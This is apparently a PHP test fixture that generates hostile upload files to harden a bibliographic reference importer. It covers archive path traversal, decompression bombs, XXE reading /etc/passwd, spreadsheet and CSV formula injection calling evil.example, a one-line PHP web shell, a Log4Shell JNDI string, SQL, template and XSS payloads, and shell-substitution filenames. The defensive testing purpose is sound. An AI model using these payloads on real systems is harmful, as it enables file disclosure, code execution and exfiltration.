<?php

namespace Tests\Hostile;

use ZipArchive;

/**
 * Two hundred files that nobody means well with, made anew each time: by what they attack, each with a name for people.
 * Those of pdfs() go where full texts go, all others where references go.
 */
final class HostileFiles
{
    private const RIS = "TY  - JOUR\nTI  - Lamps at night\nAU  - Haldor, P\nPY  - 2020\nER  - \n";

    /** @return \Generator<string, array{string, string}> name of the file as it is sent, and content */
    public static function references(): \Generator
    {
        yield from self::archives();
        yield from self::spreadsheets();
        yield from self::xml();
        yield from self::tagged();
        yield from self::bibtex();
        yield from self::json();
        yield from self::tables();
        yield from self::encodings();
        yield from self::noReferences();
        yield from self::names();
    }

    /** @param  array<string, string>  $entries */
    private static function zip(array $entries): string
    {
        $path = tempnam(sys_get_temp_dir(), 'zip');
        $zip = new ZipArchive();
        $zip->open($path, ZipArchive::OVERWRITE);
        foreach ($entries as $name => $content) {
            $zip->addFromString((string) $name, $content);
        }
        $zip->close();
        $bytes = (string) file_get_contents($path);
        unlink($path);

        return $bytes;
    }

    /** @return \Generator<string, array{string, string}> */
    private static function archives(): \Generator
    {
        $good = self::zip(['a.ris' => self::RIS]);
        $inside = fn (string $name): array => ['a.zip', self::zip([$name => self::RIS])];
        yield 'an entry above its folder' => $inside('../../../../tmp/evil.ris');
        yield 'an entry from the root' => $inside('/etc/cron.d/evil.ris');
        yield 'an entry of another system' => $inside('C:\\Windows\\evil.ris');
        yield 'an entry with a long name' => $inside(str_repeat('a', 4000).'.ris');
        yield 'an entry that is read from right to left' => $inside("\u{202E}sir.exe");
        yield 'an entry with a line in its name' => $inside("a\nb.ris");
        yield 'an archive in an archive in an archive' => ['a.zip', self::zip(['b.zip' => self::zip(['c.zip' => $good])])];
        yield 'three thousand entries' => [
            'a.zip',
            self::zip(array_fill_keys(array_map(fn (int $i): string => "{$i}.ris", range(1, 3000)), self::RIS)),
        ];
        yield 'a zip that unpacks to 300 MB' => ['a.zip', self::zip(['a.ris' => str_repeat(' ', 300_000_000)])];
        yield 'a gzip that unpacks to 200 MB' => ['a.ris.gz', (string) gzencode(str_repeat("\0", 200_000_000), 9)];
        yield 'a gzip in a gzip' => ['a.ris.gz', (string) gzencode((string) gzencode(self::RIS))];
        yield 'a gzip with something after it' => ['a.ris.gz', gzencode(self::RIS).'and more'];
        yield 'half a gzip' => ['a.ris.gz', substr((string) gzencode(str_repeat(self::RIS, 50)), 0, 60)];
        yield 'half a zip' => ['a.zip', substr($good, 0, intdiv(strlen($good), 2))];
        yield 'a zip without its end' => ['a.zip', substr($good, 0, -22)];
        yield 'a zip with a wrong checksum' => ['a.zip', substr_replace($good, 'XXXX', 14, 4)];
        yield 'a zip that says it is locked' => ['a.zip', substr_replace($good, "\x01", 6, 1)];
        yield 'a zip that lies about its sizes' => ['a.zip', substr_replace($good, "\xFF\xFF\xFF\x7F", 22, 4)];
        yield 'a zip of nothing' => ['a.zip', "PK\x05\x06".str_repeat("\0", 18)];
        yield 'a zip of empty files' => ['a.zip', self::zip(['a.ris' => '', 'b.ris' => '', 'c' => ''])];
    }

    /** @param  array<string, string>  $parts  instead of, or beside those that a workbook needs */
    private static function xlsx(string $sheet, array $parts = []): string
    {
        $main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';
        $rel = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
        $types = 'application/vnd.openxmlformats-officedocument.spreadsheetml';

        return self::zip(array_filter([
            '[Content_Types].xml' => '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" '.
                'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'.
                "<Override PartName=\"/xl/workbook.xml\" ContentType=\"{$types}.sheet.main+xml\"/>".
                "<Override PartName=\"/xl/worksheets/sheet1.xml\" ContentType=\"{$types}.worksheet+xml\"/></Types>",
            '_rels/.rels' => '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'.
                "<Relationship Id=\"r1\" Type=\"{$rel}/officeDocument\" Target=\"xl/workbook.xml\"/></Relationships>",
            'xl/workbook.xml' => "<workbook {$main} xmlns:r=\"{$rel}\"><sheets><sheet name=\"S\" sheetId=\"1\" r:id=\"r1\"/></sheets></workbook>",
            'xl/_rels/workbook.xml.rels' => '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'.
                "<Relationship Id=\"r1\" Type=\"{$rel}/worksheet\" Target=\"worksheets/sheet1.xml\"/></Relationships>",
            'xl/worksheets/sheet1.xml' => str_replace('<worksheet>', "<worksheet {$main}>", $sheet),
            ...$parts,
        ], fn (string $part): bool => $part !== ''));
    }

    /** @return \Generator<string, array{string, string}> */
    private static function spreadsheets(): \Generator
    {
        $cell = fn (string $at, string $text): string => "<c r=\"{$at}\" t=\"inlineStr\"><is><t>{$text}</t></is></c>";
        $head = "<row r=\"1\">{$cell('A1', 'Title')}{$cell('B1', 'Authors')}</row>";
        $sheet = fn (string $rows): string => "<worksheet><sheetData>{$head}{$rows}</sheetData></worksheet>";
        $book = fn (string $rows, array $parts = []): array => ['a.xlsx', self::xlsx($sheet($rows), $parts)];
        $row = fn (string $text): string => "<row r=\"2\">{$cell('A2', $text)}{$cell('B2', 'Haldor, P')}</row>";
        $raw = fn (string $xml): array => ['a.xlsx', self::xlsx($xml)];
        $laughs = '<!DOCTYPE w [<!ENTITY a "ha">'.implode('', array_map(
            fn (int $i): string => "<!ENTITY a{$i} \"".str_repeat('&a'.($i === 1 ? '' : $i - 1).';', 10).'">',
            range(1, 9),
        )).']>';
        yield 'a sheet with entities within entities' => $raw($laughs.$sheet($row('&a9;')));
        yield 'a sheet that names a file of the machine' => $raw(
            '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'.$sheet($row('&x;')),
        );
        yield 'a sheet that names an address' => $raw('<!DOCTYPE w SYSTEM "http://127.0.0.1:9/x.dtd">'.$sheet($row('Lamps')));
        yield 'a document type after a long comment' => $raw(
            '<!--'.str_repeat('x', 6000).'--><!DOCTYPE w [<!ENTITY x "y">]>'.$sheet($row('&x;')),
        );
        yield 'a sheet in UTF-16 with a document type' => $raw(
            "\xFF\xFE".mb_convert_encoding('<!DOCTYPE w []>'.$sheet($row('Lamps')), 'UTF-16LE'),
        );
        yield 'a workbook without a sheet' => $book('', ['xl/worksheets/sheet1.xml' => '']);
        yield 'a workbook without a workbook' => $book('', ['xl/workbook.xml' => '']);
        yield 'a sheet that is no XML' => $raw('%PDF-1.4 and nothing else');
        yield 'a sheet that ends in the middle' => $raw(substr($sheet($row('Lamps')), 0, 150));
        yield 'a string of a table that is not there' => $book('<row r="2"><c r="A2" t="s"><v>999999</v></c></row>');
        yield 'a cell at the far end' => $book("<row r=\"1048576\">{$cell('XFD1048576', 'far')}</row>");
        yield 'a cell beyond the far end' => $book("<row r=\"99999999\">{$cell('ZZZZZZ99999999', 'farther')}</row>");
        yield 'a row before the first' => $book("<row r=\"-5\">{$cell('A-5', 'up')}</row>");
        yield 'five thousand columns' => $book('<row r="2">'.str_repeat('<c t="inlineStr"><is><t>x</t></is></c>', 5000).'</row>');
        yield 'a sheet that unpacks to 100 MB' => $book($row(str_repeat('x', 100_000_000)));
        yield 'formulas in cells' => $book($row('=HYPERLINK("http://evil.example?"&amp;A1,"press")'));
        yield 'a formula with a result' => $book('<row r="2"><c r="A2"><f>WEBSERVICE("http://evil.example")</f><v>0</v></c></row>');
        yield 'a date in no year' => $book('<row r="2"><c r="A2" t="d"><v>-99999-99-99</v></c><c r="B2"><v>1e308</v></c></row>');
        yield 'a sheet that is its own relation' => $book($row('Lamps'), ['xl/worksheets/_rels/sheet1.xml.rels' => '<Relationships '.
            'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="x" Target="sheet1.xml"/></Relationships>']);
        yield 'a relation out of the archive' => $book($row('Lamps'), ['xl/_rels/workbook.xml.rels' => '<Relationships '.
            'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/'.
            'officeDocument/2006/relationships/worksheet" Target="../../../../etc/passwd"/></Relationships>']);
    }

    /** @return \Generator<string, array{string, string}> */
    private static function xml(): \Generator
    {
        $mods = fn (string $inner, string $before = '<?xml version="1.0"?>', string $ns = 'http://www.loc.gov/mods/v3'): array => [
            'a.xml', "{$before}<modsCollection xmlns=\"{$ns}\"><mods><titleInfo><title>{$inner}</title></titleInfo></mods></modsCollection>",
        ];
        yield 'entities within entities' => $mods(
            '&b;',
            '<!DOCTYPE m [<!ENTITY a "'.str_repeat('x', 1000).'"><!ENTITY b "'.str_repeat('&a;', 1000).'">]>',
        );
        yield 'a file of the machine' => $mods('&x;', '<!DOCTYPE m [<!ENTITY x SYSTEM "file:///etc/passwd">]>');
        yield 'an entity of parameters' => $mods('x', '<!DOCTYPE m [<!ENTITY % p SYSTEM "http://127.0.0.1:9/"> %p;]>');
        yield 'a document type in small letters' => $mods('&x;', '<!doctype m [<!ENTITY x "y">]>');
        yield 'a document type after a comment' => $mods('&x;', '<!--'.str_repeat('-x', 5000).'--><!DOCTYPE m [<!ENTITY x "y">]>');
        yield 'an inclusion' => $mods('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>');
        yield 'a style sheet' => $mods('Lamps', '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://127.0.0.1:9/x.xsl"?>');
        yield 'twenty thousand elements within each other' => $mods(str_repeat('<a>', 20_000).str_repeat('</a>', 20_000));
        yield 'a hundred thousand open elements' => $mods(str_repeat('<a>', 100_000));
        yield 'ten thousand attributes' => $mods(
            '<a '.implode(' ', array_map(fn (int $i): string => "a{$i}=\"x\"", range(1, 10_000))).'/>',
        );
        yield 'an attribute of four million letters' => $mods('<a b="'.str_repeat('x', 4_000_000).'"/>');
        yield 'a title of four million letters' => $mods(str_repeat('x', 4_000_000));
        yield 'the same attribute twice' => $mods('<a b="1" b="2"/>');
        yield 'letters that XML does not have' => $mods("Lamps \x01\x02\x08 &#0; &#xFFFE;");
        yield 'another name space' => $mods('Lamps', ns: 'http://evil.example/ns');
        yield 'an encoding that it does not have' => $mods("L\xE4mpchen \xFF", '<?xml version="1.0" encoding="UTF-8"?>');
        yield 'an encoding that nobody has' => $mods('Lamps', '<?xml version="1.0" encoding="x-evil"?>');
        yield 'UTF-7' => $mods('+ADw-script+AD4-', '<?xml version="1.0" encoding="UTF-7"?>');
        yield 'UTF-16 with a document type' => [
            'a.xml',
            "\xFE\xFF".mb_convert_encoding($mods('&x;', '<!DOCTYPE m [<!ENTITY x "y">]>')[1], 'UTF-16BE'),
        ];
        yield 'sections that do not end' => $mods(str_repeat('<![CDATA[', 1000));
    }

    /** @return \Generator<string, array{string, string}> */
    private static function tagged(): \Generator
    {
        $ris = fn (string $lines): array => ['a.ris', "TY  - JOUR\n{$lines}\nER  - \n"];
        yield 'a record that does not end' => ['a.ris', "TY  - JOUR\nTI  - Lamps\n".str_repeat("AB  - and on\n", 100_000)];
        yield 'a line of four million letters' => $ris('TI  - '.str_repeat('lamp ', 800_000));
        yield 'a hundred thousand authors' => $ris("TI  - Lamps\n".str_repeat("AU  - Haldor, P\n", 100_000));
        yield 'twelve thousand empty records' => ['a.ris', str_repeat("TY  - \nER  - \n", 12_000)];
        yield 'beginnings alone' => ['a.ris', str_repeat("TY  - JOUR\n", 20_000)];
        yield 'ends alone' => ['a.ris', str_repeat("ER  - \n", 20_000)];
        yield 'a script in every field' => $ris(
            "TI  - <script>alert(1)</script>\nAU  - <img src=x onerror=alert(1)>\nUR  - javascript:alert(1)",
        );
        yield 'a title that is read from right to left' => $ris("TI  - \u{202E}thgin ta spmaL\nAU  - \u{2066}Haldor");
        yield 'years that are none' => $ris("TI  - Lamps\nPY  - 99999999999999999999\nPY  - -1\nPY  - 2020/99/99");
        yield 'a DOI that climbs' => $ris("TI  - Lamps\nDO  - 10.1234/../../up\nDO  - file:///etc/passwd");
        yield 'words for a database' => $ris("TI  - '; DROP TABLE records; --\nAU  - \$\$ || pg_sleep(9) || \$\$");
        yield 'words for a template' => $ris(
            "TI  - {{ 7 * 7 }} {!! system('id') !!} @php echo 1; @endphp\nAB  - \${jndi:ldap://evil.example}",
        );
        yield 'a nul between all letters' => ['a.ris', implode("\0", str_split(self::RIS))];
        yield 'lines that end in every way' => ['a.ris', str_replace("\n", "\r\r\n\u{2028}", self::RIS)];
        yield 'tags that nobody has' => $ris(
            implode("\n", array_map(fn (int $i): string => 'Z'.chr(65 + $i % 26).'  - x', range(1, 5000))),
        );
        yield 'marks on a letter without end' => $ris('TI  - z'.str_repeat("\u{0351}\u{0300}", 50_000));
        yield 'tagged text without an end' => ['a.nbib', "PMID- 1\nTI  - Lamps\n".str_repeat("      and on\n", 100_000)];
        yield 'tagged text of numbers alone' => ['a.nbib', str_repeat("PMID- 99999999999999999999\n\n", 10_000)];
    }

    /** @return \Generator<string, array{string, string}> */
    private static function bibtex(): \Generator
    {
        $entry = fn (string $fields): array => ['a.bib', "@article{lamps, title = {Lamps}, {$fields}}\n"];
        $doubling = '@string{a0 = "ha"}'.implode(
            "\n",
            array_map(fn (int $i): string => "@string{a{$i} = a".($i - 1).' # a'.($i - 1).'}', range(1, 60)),
        );
        yield 'macros that double' => ['a.bib', "{$doubling}\n@article{x, title = a60}"];
        yield 'two hundred thousand joined pieces' => $entry('note = '.implode(' # ', array_fill(0, 200_000, '"a"')));
        yield 'a macro that is itself' => ['a.bib', "@string{a = a # a}\n@article{x, title = a}"];
        yield 'a hundred thousand open braces' => $entry('note = '.str_repeat('{', 100_000));
        yield 'a hundred thousand open entries' => ['a.bib', str_repeat('@article{a, title = {', 100_000)];
        yield 'a value that does not end' => ['a.bib', '@article{a, title = "'.str_repeat('lamp ', 400_000)];
        yield 'accents within accents' => $entry('author = {'.str_repeat('\\"{', 20_000).'o'.str_repeat('}', 20_000).'}');
        yield 'an entry that refers to itself' => $entry('crossref = {lamps}, xdata = {lamps}');
        yield 'entries that refer in a circle' => ['a.bib', "@article{a, title={A}, crossref={b}}\n@article{b, title={B}, crossref={a}}"];
        yield 'commands of the typesetter' => $entry('note = {\\input{/etc/passwd}\\write18{id}}');
        yield 'a preamble of four million letters' => ['a.bib', '@preamble{"'.str_repeat('x', 4_000_000).'"}'.$entry('year = 2020')[1]];
        yield 'twenty thousand authors' => $entry('author = {'.implode(' and ', array_fill(0, 20_000, 'Haldor, P')).'}');
        yield 'names of commas' => $entry('author = {'.str_repeat(',', 50_000).'}');
        yield 'a file that is one @' => ['a.bib', str_repeat('@', 200_000)];
    }

    /** @return \Generator<string, array{string, string}> */
    private static function json(): \Generator
    {
        $csl = fn (string $more): array => ['a.json', "[{\"id\": \"1\", \"type\": \"article-journal\", \"title\": \"Lamps\", {$more}}]"];
        yield 'a hundred thousand open brackets' => ['a.json', str_repeat('[', 100_000)];
        yield 'objects within objects' => ['a.json', str_repeat('{"title":', 50_000).'1'.str_repeat('}', 50_000)];
        yield 'a number of a hundred thousand digits' => $csl('"volume": '.str_repeat('9', 100_000));
        yield 'numbers that are too large' => $csl('"volume": 1e999, "issued": {"date-parts": [[1e308, -1e308, 99999999999]]}');
        yield 'half a letter' => $csl('"note": "\ud800"');
        yield 'letters that are none' => ['a.json', "[{\"title\": \"L\xFFmps\xC0\x80\"}]"];
        yield 'the same key a thousand times' => $csl(implode(', ', array_fill(0, 1000, '"note": "x"')));
        yield 'keys that mean something elsewhere' => $csl('"__proto__": {"admin": true}, "constructor": "x", "": "y"');
        yield 'lists where texts belong' => ['a.json', '[{"title": ["a", {"b": []}], "author": "Haldor", "issued": [], "DOI": {"x": 1}}]'];
        yield 'texts where lists belong' => $csl('"author": "Haldor", "issued": "soon", "editor": 7, "categories": {}');
        yield 'a list of nothing' => ['a.json', '['.implode(',', array_fill(0, 50_000, 'null')).']'];
        yield 'a list that ends in the middle' => ['a.json', '[{"title": "Lamps"}, {"title": "Na'];
    }

    /** @return \Generator<string, array{string, string}> */
    private static function tables(): \Generator
    {
        $csv = fn (string $text): array => ['a.csv', "Title,Authors,Year\n{$text}"];
        yield 'a quote that does not end' => $csv('"Lamps'.str_repeat("\nand on", 100_000));
        yield 'formulas' => $csv("=cmd|' /C calc'!A0,+1+1,@SUM(A1)\n-2+3,\t=1,\r=2");
        yield 'six hundred columns' => [
            'a.csv',
            implode(',', array_map(fn (int $i): string => "c{$i}", range(1, 600)))."\n".str_repeat('x,', 600),
        ];
        yield 'rows of a hundred thousand cells' => $csv(str_repeat(',', 100_000));
        yield 'a heading a thousand times' => ['a.csv', implode(',', array_fill(0, 1000, 'Title'))."\n".str_repeat('x,', 1000)];
        yield 'a table without a heading' => ['a.csv', str_repeat("1,2,3\n", 1000)];
        yield 'quotes alone' => ['a.csv', str_repeat('"', 100_001)];
        yield 'separators of every kind' => ['a.csv', "Title;Authors\tYear|DOI\nLamps;Haldor\t2020|10.1/x"];
        yield 'a script as a heading' => ['a.csv', "Title,<script>alert(1)</script>\nLamps,x"];
        yield 'a table of empty lines' => $csv(str_repeat("\n", 200_000));
    }

    /** @return \Generator<string, array{string, string}> */
    private static function encodings(): \Generator
    {
        foreach (['UTF-16LE', 'UTF-16BE', 'UTF-32LE', 'ISO-2022-JP', 'EUC-KR', 'GB18030', 'Windows-1252'] as $encoding) {
            yield "half a file in {$encoding}" => ['a.ris', substr(mb_convert_encoding(str_repeat(self::RIS, 20), $encoding), 0, 501)];
        }
        yield 'an escape into another alphabet that does not end' => ['a.ris', "TY  - JOUR\nTI  - \x1B\$B".str_repeat('%{', 5000)];
        yield 'a mark of byte order in every line' => ['a.ris', str_replace("\n", "\n\u{FEFF}", self::RIS)];
        yield 'letters written longer than they are' => ['a.ris', str_replace('Lamps', "\xC0\xBCscript\xC0\xBE \xE0\x80\xAF", self::RIS)];
        yield 'halves of letters' => ['a.ris', str_replace('Lamps', "\xED\xA0\x80\xED\xB0\x80", self::RIS)];
        yield 'bytes by chance' => ['a.ris', random_bytes(50_000)];
    }

    /** @return \Generator<string, array{string, string}> */
    private static function noReferences(): \Generator
    {
        $svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>';
        $heads = [
            'a PNG' => "\x89PNG\r\n\x1A\n\0\0\0\rIHDR\xFF\xFF\xFF\xFF\xFF\xFF\xFF\xFF\x08\x06\0\0\0",
            'a JPEG' => "\xFF\xD8\xFF\xE0\0\x10JFIF\0",
            'a GIF' => "GIF89a\xFF\xFF\xFF\xFF",
            'a TIFF' => "II*\0\xFF\xFF\xFF\xFF",
            'a program of Linux' => "\x7FELF\x02\x01\x01",
            'a program of Windows' => "MZ\x90\0\x03",
            'a database' => "SQLite format 3\0",
            'sound' => "ID3\x03\0\0\0",
        ];
        foreach ($heads as $what => $head) {
            yield "{$what} under a name of references" => ['a.ris', $head.str_repeat("\0\xFFx", 3000)];
        }
        yield 'a picture with a script' => ['a.xml', $svg];
        yield 'a web page' => ['a.ris', '<!doctype html><script>location="//evil.example"</script>'];
        yield 'a web page within references' => ['a.html', "<html>\n".self::RIS.'</html>'];
        yield 'a script of the server' => ['a.php', "<?php system(\$_GET['c']); ?>\n".self::RIS];
        yield 'settings of the server' => ['.htaccess', "AddType application/x-httpd-php .ris\n"];
        yield 'a mail' => ['a.ris', "From: a@b.example\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n"];
        yield 'nothing' => ['a.ris', ''];
        yield 'one letter' => ['a.ris', 'T'];
        yield 'spaces' => ['a.ris', str_repeat(" \t\n", 100_000)];
    }

    /** @return \Generator<string, array{string, string}> */
    private static function names(): \Generator
    {
        $names = [
            '../../../etc/passwd.ris', '/etc/passwd', "a\0.php.ris", "a\r\nSet-Cookie: x=1.ris", "\u{202E}sir.exe", str_repeat('é', 400).'.ris', '..', '-rf.ris',
            '$(id).ris', '`id`;id|id.ris', '"><script>alert(1)</script>.ris', 'CON.ris', 'a.ris.php.jpg', '%2e%2e%2fa.ris', "\u{1F4A1}.ris",
        ];
        foreach ($names as $i => $name) {
            yield 'the name '.json_encode($name, JSON_PARTIAL_OUTPUT_ON_ERROR) => [$name, str_replace('Lamps', "Lamps {$i}", self::RIS)];
        }
    }
}
